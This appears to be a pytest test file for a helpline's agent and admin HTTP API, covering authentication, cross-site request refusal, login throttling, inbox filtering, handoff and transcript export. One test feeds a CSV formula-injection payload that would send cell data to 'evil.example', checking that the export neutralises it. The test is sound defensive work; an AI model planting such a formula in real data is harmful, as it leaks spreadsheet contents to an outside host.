"""The agent and admin HTTP API against a real server: access control, login, inbox, review, handoff, export."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select, update

from api.app import create_app
from bot.settings import Settings
from bot.store.db import make_engine
from bot.store.models import AgentSession, IntentLabel, LoginAttempt, utcnow
from bot.store.tokens import hash_token
from bot.store.transcripts import TranscriptStore
from bot.workspace.accounts import Accounts
from tests.api.wsclient import Customer
from tests.servers import LiveServer, start_server, stop_server

PASSWORD = "correct horse battery"


@dataclass
class Api:
    server: LiveServer
    store: TranscriptStore
    tokens: dict[str, str]  # agent name -> bearer token

    def call(self, method: str, path: str, who: str | None = None, **kwargs: Any) -> httpx.Response:
        headers = kwargs.pop("headers", {})
        if who is not None:
            headers["Authorization"] = f"Bearer {self.tokens[who]}"
        return httpx.request(method, self.server.url + path, headers=headers, timeout=30, **kwargs)


@pytest.fixture(scope="module")
def api(demo_data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    """A server of our own (its own database), with agents Maya and Sam and an admin."""
    workdir = tmp_path_factory.mktemp("agent-api")
    # the tests play the reverse proxy: X-Forwarded-For from 127.0.0.1 names the client
    server = start_server(demo_data_dir, f"sqlite:///{workdir / 'helpline.db'}", workdir / "server.log",
                          HELPLINE_TRUSTED_PROXIES="127.0.0.1")
    engine = make_engine(server.database_url)
    store = TranscriptStore(engine)
    accounts = Accounts(store)
    accounts.add_agent("maya", PASSWORD, "agent", "Maya")
    accounts.add_agent("sam", PASSWORD, "agent", "Sam")
    accounts.add_agent("root", PASSWORD, "admin", "Ada")
    api = Api(server, store, {})
    for name in ("maya", "sam", "root"):
        response = api.call("POST", "/api/auth/login", json={"name": name, "password": PASSWORD})
        assert response.status_code == 200, response.text
        api.tokens[name] = response.json()["token"]
    yield api
    stop_server(server)
    engine.dispose()


def say(customer: Customer, text: str) -> dict[str, Any]:
    """Send a message and return how it ended: ``reply.end`` or ``message.received`` (other frames skipped)."""
    customer.send({"type": "message", "text": text, "id": f"c{time.monotonic_ns()}"})
    while True:
        frame = customer.receive()
        if frame["type"] in ("reply.end", "message.received", "error"):
            return frame


@pytest.fixture(scope="module")
def talks(api: Api) -> dict[str, Customer]:
    """Three real customers: a refund question, one who asks for a person, and a small-talker (newest)."""
    customers = {name: Customer.open(api.server.ws_url) for name in ("refund", "person", "chat")}
    say(customers["refund"], "How long does a refund take?")
    say(customers["person"], "I want to talk to a human")
    say(customers["chat"], "hello there")
    yield customers  # type: ignore[misc]
    for customer in customers.values():
        customer.close()


def conversation(talks: dict[str, Customer], name: str) -> str:
    return str(talks[name].session["conversation_id"])


def protected_routes() -> list[tuple[str, str]]:
    """Every (method, path) of the agent and admin API, read from the app's own schema so none can slip through."""
    paths = create_app(Settings(data_dir=Path("unused"))).openapi()["paths"]
    found = [
        (method.upper(), path) for path, operations in paths.items() for method in operations
        if path.startswith(("/api/agent", "/api/admin"))
    ]
    assert len(found) >= 15
    return found


def fill(path: str, conversation_id: str, message_id: int) -> str:
    return (path.replace("{conversation_id}", conversation_id).replace("{message_id}", str(message_id))
            .replace("{name}", "maya").replace("{proposal_id}", "1"))


def first_message_id(api: Api, conversation_id: str) -> int:
    detail = api.call("GET", f"/api/agent/conversations/{conversation_id}", "maya").json()
    return int(detail["messages"][0]["id"])


# access ----------------------------------------------------------------------------------------


def test_every_agent_and_admin_endpoint_refuses_anonymous_and_customer_tokens(
    api: Api, talks: dict[str, Customer]
) -> None:
    target = conversation(talks, "refund")
    message = first_message_id(api, target)
    customer_token = talks["refund"].session["token"]
    for method, path in protected_routes():
        url = fill(path, target, message)
        for headers in (
            {},
            {"Authorization": f"Bearer {customer_token}"},  # a customer's conversation token is no agent token
            {"Authorization": "Bearer not-a-session"},
            {"Cookie": f"helpline_session={customer_token}"},
            {"Authorization": api.tokens["maya"]},  # no "Bearer" scheme
        ):
            response = api.call(method, url, headers=headers, json={})
            assert response.status_code == 401, (method, url, headers, response.text)
    assert api.call("GET", "/api/agent/conversations", params={"token": customer_token}).status_code == 401


def test_admin_endpoints_refuse_agents(api: Api) -> None:
    admin_routes = [(m, p) for m, p in protected_routes() if p.startswith("/api/admin")]
    assert admin_routes
    for method, path in admin_routes:
        body = {"name": "mallory", "password": PASSWORD, "role": "admin"}
        response = api.call(method, fill(path, "c0ffee", 1), "maya", json=body)
        assert response.status_code == 403, (method, path, response.text)
    listed = {a["name"]: a for a in api.call("GET", "/api/admin/agents", "root").json()}
    assert "mallory" not in listed and not listed["maya"]["disabled"]
    assert api.call("GET", "/api/agent/me", "maya").status_code == 200  # her session was not revoked either


def test_admins_list_and_create_agents(api: Api) -> None:
    created = api.call("POST", "/api/admin/agents", "root",
                       json={"name": "lee", "display_name": "Lee", "role": "agent", "password": PASSWORD})
    assert created.status_code == 201 and created.json()["display_name"] == "Lee"
    listed = api.call("GET", "/api/admin/agents", "root").json()
    assert {"lee", "maya", "root", "sam"} <= {a["name"] for a in listed}
    assert not any("password" in key for a in listed for key in a)
    again = api.call("POST", "/api/admin/agents", "root", json={"name": "lee", "password": PASSWORD})
    assert again.status_code == 409
    short = api.call("POST", "/api/admin/agents", "root", json={"name": "kim", "password": "short"})
    assert short.status_code == 422
    login = api.call("POST", "/api/auth/login", json={"name": "lee", "password": PASSWORD})
    assert login.status_code == 200 and login.json()["agent"]["role"] == "agent"


def test_login_sets_a_strict_http_only_cookie_and_logout_ends_the_session(api: Api) -> None:
    response = api.call("POST", "/api/auth/login", json={"name": "sam", "password": PASSWORD})
    assert response.status_code == 200
    body = response.json()
    assert body["agent"] == {"id": body["agent"]["id"], "name": "sam", "display_name": "Sam", "role": "agent"}
    cookie = response.headers["set-cookie"]
    assert cookie.startswith(f"helpline_session={body['token']};")
    lowered = cookie.lower()
    assert "httponly" in lowered and "samesite=strict" in lowered and "path=/" in lowered
    assert "secure" not in lowered.replace("samesite", "")  # HELPLINE_COOKIE_SECURE is off by default
    session_cookie = {"Cookie": f"helpline_session={body['token']}"}
    assert api.call("GET", "/api/agent/me", headers=session_cookie).json()["name"] == "sam"
    assert api.call("GET", "/api/agent/me", headers={"Authorization": f"Bearer {body['token']}"}).status_code == 200
    logout = api.call("POST", "/api/auth/logout", headers={**session_cookie, "Origin": api.server.url})
    assert logout.status_code == 204 and "helpline_session=" in logout.headers["set-cookie"]
    assert api.call("GET", "/api/agent/me", headers=session_cookie).status_code == 401
    wrong = api.call("POST", "/api/auth/login", json={"name": "sam", "password": "not the password"})
    assert wrong.status_code == 401 and wrong.json() == {"detail": "wrong name or password"}


def test_a_cookie_carried_state_change_from_another_site_is_refused(api: Api) -> None:
    token = api.call("POST", "/api/auth/login", json={"name": "maya", "password": PASSWORD}).json()["token"]
    cookie = {"Cookie": f"helpline_session={token}"}
    conversation = api.store.open_conversation()[0]
    api.store.log_customer(conversation, "hello?")
    close = f"/api/agent/conversations/{conversation}/close"
    for origin in ("https://evil.example", "http://127.0.0.1.evil.example", None):  # None: no Origin at all
        headers = cookie if origin is None else {**cookie, "Origin": origin}
        refused = api.call("POST", close, headers=headers)
        assert refused.status_code == 403 and "cross-site" in refused.json()["detail"], (origin, refused.text)
    assert api.store.state(conversation) != "closed"
    assert api.call("GET", "/api/agent/me", headers=cookie).status_code == 200  # reading is not a change
    own = api.call("POST", close, headers={**cookie, "Origin": api.server.url})
    assert own.status_code != 403, own.text  # from the console's own page it goes through
    stolen_login = api.call("POST", "/api/auth/login", json={"name": "maya", "password": PASSWORD},
                            headers={"Origin": "https://evil.example"})
    assert stolen_login.status_code == 403


def test_expired_session_is_refused(api: Api) -> None:
    token = api.call("POST", "/api/auth/login", json={"name": "maya", "password": PASSWORD}).json()["token"]
    bearer = {"Authorization": f"Bearer {token}"}
    assert api.call("GET", "/api/agent/me", headers=bearer).status_code == 200
    with api.store.session() as session, session.begin():
        session.execute(update(AgentSession).where(AgentSession.token_hash == hash_token(token))
                        .values(expires_at=utcnow() - timedelta(seconds=1)))
    assert api.call("GET", "/api/agent/me", headers=bearer).status_code == 401


def test_repeated_failed_logins_are_slowed_down_and_logged(api: Api) -> None:
    # from an address of its own (the server trusts X-Forwarded-For from 127.0.0.1), so other tests may log in
    remote = {"X-Forwarded-For": "203.0.113.5"}
    Accounts(api.store).add_agent("target", PASSWORD)
    for _ in range(5):
        response = api.call("POST", "/api/auth/login", json={"name": "target", "password": "guess-guess"},
                            headers=dict(remote))
        assert response.status_code == 401
    throttled = api.call("POST", "/api/auth/login", json={"name": "target", "password": PASSWORD},
                         headers=dict(remote))
    assert throttled.status_code == 429 and 0 < int(throttled.headers["Retry-After"]) <= 30
    later = api.call("POST", "/api/auth/login", json={"name": "target", "password": PASSWORD}, headers=dict(remote))
    assert later.status_code == 429 and int(later.headers["Retry-After"]) > 30  # the wait grows
    with api.store.session() as session:
        attempts = session.execute(select(LoginAttempt.ok, LoginAttempt.remote).where(LoginAttempt.name == "target")
                                   .order_by(LoginAttempt.id)).all()
    assert [tuple(a) for a in attempts] == [(False, "203.0.113.5")] * 7
    assert "failed agent login for 'target' from 203.0.113.5" in api.server.log.read_text()
    other = api.call("POST", "/api/auth/login", json={"name": "sam", "password": PASSWORD})
    assert other.status_code == 200  # nobody else is locked out


def test_a_scan_of_random_names_does_not_lock_an_agent_out_of_her_own_address(api: Api) -> None:
    # what an anonymous fuzzing run did to the login from its own address before logins were throttled by scope
    office = {"X-Forwarded-For": "203.0.113.77"}
    Accounts(api.store).add_agent("office", PASSWORD)
    Accounts(api.store).add_agent("visitor", PASSWORD)
    login = {"name": "office", "password": PASSWORD}
    assert api.call("POST", "/api/auth/login", json=login, headers=dict(office)).status_code == 200
    for n in range(25):
        scan = api.call("POST", "/api/auth/login", json={"name": f"fuzz{n}", "password": f"guess-{n}"},
                        headers=dict(office))
        assert scan.status_code in (401, 429)
    assert api.call("POST", "/api/auth/login", json=login, headers=dict(office)).status_code == 200
    stranger = api.call("POST", "/api/auth/login", json={"name": "visitor", "password": PASSWORD},
                        headers=dict(office))
    assert stranger.status_code == 429  # a name never used from the scanning address still waits
    assert api.call("POST", "/api/auth/login", json={"name": "visitor", "password": PASSWORD}).status_code == 200


# inbox -----------------------------------------------------------------------------------------


def listed(api: Api, **params: Any) -> list[str]:
    response = api.call("GET", "/api/agent/conversations", "maya", params=params)
    assert response.status_code == 200, response.text
    return [item["id"] for item in response.json()["items"]]


def test_inbox_filters_and_pages(api: Api, talks: dict[str, Customer]) -> None:
    refund, person, chat = (conversation(talks, n) for n in ("refund", "person", "chat"))
    everything = listed(api)
    assert [c for c in everything if c in (refund, person, chat)] == [chat, person, refund]  # newest first
    assert person in listed(api, status="waiting") and refund not in listed(api, status="waiting")
    assert refund in listed(api, intent="refunds") and chat not in listed(api, intent="refunds")
    assert listed(api, q="HOW LONG does a refund") == [refund]
    assert listed(api, q="no message says this") == []
    assert refund in listed(api, since="2000-01-01", until="2999-12-31")
    assert listed(api, until="2000-01-01") == []
    seen, cursor = [], None
    while True:
        page = api.call("GET", "/api/agent/conversations", "maya", params={"limit": 1, **({"cursor": cursor} if cursor
                                                                                           else {})}).json()
        seen += [item["id"] for item in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == everything
    summary = api.call("GET", "/api/agent/conversations", "maya", params={"q": "refund take"}).json()["items"][0]
    assert summary["message_count"] == 2 and summary["state"] == "bot" and summary["assigned_agent"] is None
    for bad in ({"status": "everything"}, {"since": "yesterday"}, {"cursor": "garbage"}, {"limit": 500}):
        assert api.call("GET", "/api/agent/conversations", "maya", params=bad).status_code == 422, bad


def test_transcript_explains_bot_turns_and_takes_corrections(api: Api, talks: dict[str, Customer]) -> None:
    refund = conversation(talks, "refund")
    detail = api.call("GET", f"/api/agent/conversations/{refund}", "maya").json()
    asked, answer = detail["messages"]
    assert asked["role"] == "customer" and answer["role"] == "bot" and answer["in_reply_to"] == asked["id"]
    assert answer["intent"] == "refunds" and 0 < answer["confidence"] <= 1 and answer["route"] == "faq"
    assert len(answer["ranking"]) >= 3 and answer["ranking"][0][0] == "refunds"
    assert answer["faq_id"] and "refund" in answer["faq_question"].lower() and answer["score"] > 0
    assert answer["model_version"] and answer["latency_ms"] > 0
    assert api.call("GET", "/api/agent/conversations/nope", "maya").status_code == 404

    relabelled = api.call("PUT", f"/api/agent/messages/{asked['id']}/intent", "maya", json={"intent": "refund_status"})
    assert relabelled.status_code == 200 and relabelled.json()["label"] == "refund_status"
    with api.store.session() as session:
        assert session.scalar(select(IntentLabel.intent).where(IntentLabel.message_id == asked["id"])) == (
            "refund_status"
        )
    assert "refund_status" in api.call("GET", "/api/agent/intents", "maya").json()
    assert {"refunds", "human_agent"} <= set(api.call("GET", "/api/agent/intents", "maya").json())
    assert api.call("PUT", f"/api/agent/messages/{answer['id']}/intent", "maya",
                    json={"intent": "refunds"}).status_code == 422  # bot replies have no customer intent
    assert api.call("PUT", f"/api/agent/messages/{asked['id']}/intent", "maya",
                    json={"intent": "Not A Label"}).status_code == 422
    assert api.call("PUT", "/api/agent/messages/999999/intent", "maya", json={"intent": "x"}).status_code == 404

    reviewed = api.call("PUT", f"/api/agent/messages/{answer['id']}/review", "sam", json={"verdict": "good"})
    assert reviewed.status_code == 200 and reviewed.json()["review"] == "good"
    assert api.call("PUT", f"/api/agent/messages/{asked['id']}/review", "sam",
                    json={"verdict": "good"}).status_code == 422

    note = api.call("POST", f"/api/agent/conversations/{refund}/notes", "maya", json={"text": "<b>VIP</b> customer"})
    assert note.status_code == 201 and note.json()["agent"] == "Maya"
    tags = api.call("PUT", f"/api/agent/conversations/{refund}/tags", "sam", json={"tags": ["vip", "billing"]})
    assert tags.status_code == 200 and tags.json()["tags"] == ["billing", "vip"]
    assert api.call("PUT", f"/api/agent/conversations/{refund}/tags", "sam",
                    json={"tags": ["x" * 65]}).status_code == 422
    assert listed(api, tag="vip") == [refund]
    detail = api.call("GET", f"/api/agent/conversations/{refund}", "sam").json()
    assert detail["notes"][0]["text"] == "<b>VIP</b> customer" and detail["conversation"]["tags"] == ["billing", "vip"]
    assert detail["messages"][0]["label"] == "refund_status" and detail["messages"][1]["review"] == "good"


def test_export_of_filtered_transcripts_in_both_formats(api: Api, talks: dict[str, Customer]) -> None:
    refund = conversation(talks, "refund")
    first_message = first_message_id(api, refund)
    api.call("PUT", f"/api/agent/messages/{first_message}/intent", "maya", json={"intent": "refund_status"})
    jsonl = api.call("GET", "/api/agent/export", "maya", params={"format": "jsonl", "q": "refund take"})
    assert jsonl.status_code == 200 and "attachment" in jsonl.headers["content-disposition"]
    assert jsonl.headers["content-disposition"].endswith('.jsonl"')
    rows = [json.loads(line) for line in jsonl.text.splitlines()]
    assert {r["conversation_id"] for r in rows} == {refund} and [r["role"] for r in rows] == ["customer", "bot"]
    assert rows[0]["label"] == "refund_status" and rows[1]["route"] == "faq" and "review" in rows[1]
    table = api.call("GET", "/api/agent/export", "maya", params={"format": "csv", "status": "waiting"})
    assert table.status_code == 200 and table.headers["content-type"].startswith("text/csv")
    parsed = list(csv.DictReader(io.StringIO(table.text)))
    assert {r["conversation_id"] for r in parsed} == set(listed(api, status="waiting"))
    assert {"label", "review", "intent", "route", "faq_id", "model_version", "rating"} <= set(parsed[0])


# handoff ---------------------------------------------------------------------------------------


def frames_until(customer: Customer, kind: str) -> dict[str, Any]:
    while True:
        frame = customer.receive(timeout=30)
        if frame["type"] == kind:
            return frame


def test_handoff_first_accept_wins_and_only_the_holder_talks(api: Api, talks: dict[str, Customer]) -> None:
    person = conversation(talks, "person")
    base = f"/api/agent/conversations/{person}"
    accepted = api.call("POST", f"{base}/accept", "maya")
    assert accepted.status_code == 200, accepted.text
    assert accepted.json()["state"] == "agent" and accepted.json()["assigned_agent"] == "Maya"
    lost = api.call("POST", f"{base}/accept", "sam")
    assert lost.status_code == 409 and lost.json() == {"detail": "already claimed by Maya"}
    assert person in listed(api, status="mine")
    assert api.call("POST", f"{base}/messages", "sam", json={"text": "hi"}).status_code == 403
    assert api.call("POST", f"{base}/handback", "sam").status_code == 403
    sent = api.call("POST", f"{base}/messages", "maya", json={"text": "Hi, I'm Maya. How can I help?"})
    assert sent.status_code == 201 and sent.json()["role"] == "agent" and sent.json()["agent"] == "Maya"
    assert frames_until(talks["person"], "agent.message")["text"] == "Hi, I'm Maya. How can I help?"
    assert say(talks["person"], "my order is late")["type"] == "message.received"  # the bot stays silent
    handed = api.call("POST", f"{base}/handback", "root")  # an admin may hand back anyone's conversation
    assert handed.status_code == 200 and handed.json()["state"] == "bot" and handed.json()["assigned_agent"] is None
    assert api.call("POST", f"{base}/messages", "maya", json={"text": "still there?"}).status_code == 409
    assert api.call("POST", f"{base}/handback", "maya").status_code == 409
    closed = api.call("POST", f"{base}/close", "sam")
    assert closed.status_code == 200 and closed.json()["state"] == "closed"
    assert api.call("POST", f"{base}/close", "sam").status_code == 409
    assert api.call("POST", "/api/agent/conversations/nope/accept", "maya").status_code == 404
    detail = api.call("GET", base, "maya").json()
    assert [m["role"] for m in detail["messages"]].count("system") >= 3


# export and spreadsheets ---------------------------------------------------------------------------


def test_the_csv_download_shows_what_a_customer_typed_as_text_not_a_formula(api: Api) -> None:
    typed = '=HYPERLINK("http://evil.example/?leak="&A1, "Refund")'
    customer = Customer.open(api.server.ws_url)
    say(customer, typed)
    customer.ws.close()
    ours = str(customer.session["conversation_id"])
    table = api.call("GET", "/api/agent/export", "maya", params={"format": "csv"})
    rows = [row for row in csv.DictReader(io.StringIO(table.text, newline="")) if row["conversation_id"] == ours]
    assert rows[0]["role"] == "customer" and rows[0]["text"] == "'" + typed
    lines = api.call("GET", "/api/agent/export", "maya", params={"format": "jsonl"}).text.splitlines()
    objects = [json.loads(line) for line in lines]
    assert next(o["text"] for o in objects if o["conversation_id"] == ours) == typed  # JSON lines: as typed
